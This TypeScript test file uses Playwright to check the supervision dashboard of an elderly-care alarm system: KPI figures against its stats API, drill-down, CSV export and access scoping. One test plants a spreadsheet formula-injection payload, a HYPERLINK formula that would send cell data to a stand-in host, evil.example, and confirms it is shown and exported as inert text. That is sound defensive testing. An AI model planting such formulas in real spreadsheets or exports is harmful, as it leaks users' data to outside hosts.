import { readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { HOME, offset, startWorld, type World } from '../support/world.ts'
import { type Browsing, haveChromium, launch, login, mustRun, screenshot, user } from './support/browser.ts'

interface Rate {
  count: number
  of: number
  rate: number | null
}
interface Stats {
  totals: {
    alarms: number
    onTime: Rate
    completed: Rate
    escalated: Rate
    acceptMs: { median: number | null }
  }
  children: { name: string; alarms: number }[]
}

const pct = (r: Rate) => (r.rate === null ? '—' : `${(r.rate * 100).toFixed(1)}%`)
const kpi = (page: Page, key: string) => page.locator(`.kpi[data-kpi=${key}] .kpi-value`).textContent()

describe.skipIf(!haveChromium && !mustRun)('the supervision page in Chromium', () => {
  let world: World
  let browsing: Browsing
  let context: BrowserContext

  beforeAll(async () => {
    world = await startWorld()
    browsing = await launch()
    await world.elder('E01', { name: '王秀兰', grid: ['海丰街道', '东关社区', 'G03'] })
    await world.elder('E02', { name: '赵大爷', grid: ['车王镇', '北村', 'G01'], home: offset(HOME, 5000, 0) })
    await world.device('D01', 'E01')
    await world.device('D02', 'E02')
    const carer = await world.carer('C01', offset(HOME, 300, 0))
    await user(world, 'sup-all', { role: 'supervisor' })
    await user(world, 'sup-hf', { role: 'supervisor', grid: ['海丰街道'] })
    // one alarm served (accepted after 40 s, arrived after 8 min), one still open
    const d1 = world.clients.find((c) => c.client.options.username === 'D01')
    const d2 = world.clients.find((c) => c.client.options.username === 'D02')
    await d1?.publish('care/v1/dev/D01/sos', { id: 's1', ts: world.clock.now() })
    const offer = await carer.next((r) => r.message.action === 'offer')
    const alarmId = offer.message.alarmId as string
    await world.scheduler.advance(40_000)
    await carer.publish('care/v1/carer/C01/reply', { alarmId, action: 'accept', ts: world.clock.now() })
    await world.scheduler.advance(7 * 60_000 + 20_000)
    await carer.publish('care/v1/carer/C01/reply', {
      alarmId,
      action: 'arrive',
      ts: world.clock.now(),
      ...HOME,
    })
    await carer.publish('care/v1/carer/C01/reply', {
      alarmId,
      action: 'resolve',
      ts: world.clock.now(),
      outcome: 'assisted',
    })
    await d2?.publish('care/v1/dev/D02/sos', { id: 's2', ts: world.clock.now() })
    await d2?.next((r) => r.message.state === 'received')
    await world.scheduler.advance(10 * 60_000)
    context = await browsing.browser.newContext({
      viewport: { width: 1366, height: 768 },
      locale: 'zh-CN',
      acceptDownloads: true,
    })
  })

  afterAll(async () => {
    await browsing?.close()
    await world?.stop()
  })

  it('shows the same KPIs as GET /stats for the same window, with a drill-down and charts', async () => {
    const page = await login(context, world, 'sup-all')
    expect(new URL(page.url()).pathname).toBe('/supervision')
    await page.waitForSelector('body[data-loaded=true]')
    const stats = (await world.api<Stats>('GET', '/api/v1/stats')).body
    expect(stats.totals.alarms).toBeGreaterThanOrEqual(2)
    expect(await kpi(page, 'kpiAlarms')).toBe(String(stats.totals.alarms))
    expect(await kpi(page, 'kpiOnTime')).toBe(pct(stats.totals.onTime))
    expect(await kpi(page, 'kpiCompleted')).toBe(pct(stats.totals.completed))
    expect(await kpi(page, 'kpiEscalated')).toBe(pct(stats.totals.escalated))
    const median = stats.totals.acceptMs.median
    expect(await kpi(page, 'kpiAcceptMedian')).toBe(
      median === null ? '—' : `${(median / 60_000).toFixed(1)} min`,
    )
    const rows = await page.locator('#drilldown tbody tr').allTextContents()
    expect(rows.map((r) => r.slice(0, 3))).toEqual(stats.children.map((c) => c.name.slice(0, 3)))
    expect(await page.locator('canvas#chart-kind').count()).toBe(1)
    // the late-arrival worklist holds exactly the alarms that /stats counts as due and not on time
    expect(await page.locator('#late tbody tr:not(.empty)').count()).toBe(
      stats.totals.onTime.of - stats.totals.onTime.count,
    )
    await screenshot(page, 'supervision-zh', true)

    // drill down into the street, then the community
    await page.locator('#drilldown tbody tr', { hasText: '海丰街道' }).click()
    await expect.poll(() => page.locator('#crumbs').textContent()).toContain('海丰街道')
    const street = (await world.api<Stats>('GET', `/api/v1/stats?grid=${encodeURIComponent('海丰街道')}`))
      .body
    await expect.poll(() => kpi(page, 'kpiAlarms')).toBe(String(street.totals.alarms))
    await page.close()
  })

  it('asks /stats for the date range picked', async () => {
    const page = await login(context, world, 'sup-all')
    await page.waitForSelector('body[data-loaded=true]')
    // a week that ended before the test district's alarms (the world's clock is 5 January 2026)
    await page.fill('#from', '2025-12-01')
    await page.fill('#to', '2025-12-07')
    const asked = page.waitForRequest((r) => r.url().includes('/api/v1/stats?'))
    await page.click('#range button[type=submit]')
    const url = new URL((await asked).url())
    expect(Number(url.searchParams.get('from'))).toBe(new Date('2025-12-01T00:00:00').getTime())
    await expect.poll(() => kpi(page, 'kpiAlarms')).toBe('0')
    await page.close()
  })

  it('exports a table as CSV with the rows shown', async () => {
    const page = await login(context, world, 'sup-all')
    await page.waitForSelector('body[data-loaded=true]')
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.click('button.csv[data-table=drilldown]'),
    ])
    const path = await download.path()
    const csv = readFileSync(path, 'utf8').replace(/^\ufeff/, '')
    const lines = csv.trim().split('\r\n')
    const shown = await page.locator('#drilldown tbody tr').count()
    expect(lines).toHaveLength(shown + 1)
    expect(lines[0]).toContain('名称')
    expect(csv).toContain('海丰街道')
    expect(csv).toContain('车王镇')
    await page.close()
  })

  it('shows a scoped supervisor only their grid', async () => {
    const page = await login(context, world, 'sup-hf')
    await page.waitForSelector('body[data-loaded=true]')
    const session = JSON.parse(
      (await page.evaluate<string | null>('localStorage.getItem("care.session")')) ?? '{}',
    )
    const token = String(session.token)
    const scoped = (await world.api<Stats>('GET', '/api/v1/stats', undefined, token)).body
    expect(await kpi(page, 'kpiAlarms')).toBe(String(scoped.totals.alarms))
    expect(await page.locator('#crumbs').textContent()).toContain('海丰街道')
    const text = (await page.locator('main').textContent()) ?? ''
    expect(text).toContain('东关社区')
    expect(text).not.toContain('车王镇')
    expect(text).not.toContain('E02')
    await page.close()
  })

  it('says plainly when the statistics are unavailable', async () => {
    const page = await context.newPage()
    await page.route('**/api/v1/stats**', (route) =>
      route.fulfill({
        status: 404,
        contentType: 'application/json',
        body: '{"error":{"code":"NOT_FOUND","message":"no"}}',
      }),
    )
    await page.goto(`http://127.0.0.1:${world.app.httpPort}/supervision`)
    await page.waitForSelector('#stats-unavailable')
    expect(await page.locator('#stats-unavailable').textContent()).toContain('统计数据暂不可用')
    await page.close()
  })

  it('switches to English', async () => {
    const page = await login(context, world, 'sup-all', 'en')
    await page.waitForSelector('body[data-loaded=true]')
    expect(await page.locator('.kpi[data-kpi=kpiOnTime] .kpi-label').textContent()).toBe('On time')
    await screenshot(page, 'supervision-en', true)
    await page.close()
  })

  it('shows a name that looks like a formula as text, and exports it as text', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    // far from every carer: escalated, and late once its 15 minutes are over
    await world.elder('E03', { name, grid: ['车王镇', '北村', 'G02'], home: offset(HOME, 30_000, 0) })
    const raised = await world.api<{ id: string }>('POST', '/api/v1/alarms', { elderId: 'E03' })
    expect(raised.status).toBe(201)
    await world.scheduler.advance(16 * 60_000)
    const page = await login(context, world, 'sup-all')
    await page.waitForSelector('body[data-loaded=true]')
    const row = page.locator('#late tbody tr', { hasText: raised.body.id })
    expect(await row.locator('td').nth(4).textContent()).toBe(name)
    expect(await page.locator('#late a, #late [href]').count()).toBe(0)
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.click('button.csv[data-table=late]'),
    ])
    const rows = parse(readFileSync(await download.path(), 'utf8').replace(/^\ufeff/, '')) as string[][]
    const exported = rows.find((r) => r[0] === raised.body.id)
    expect(exported?.[4]).toBe(`'${name}`)
    expect(exported?.[5]).toBe('E03')
    await page.close()
  })
})
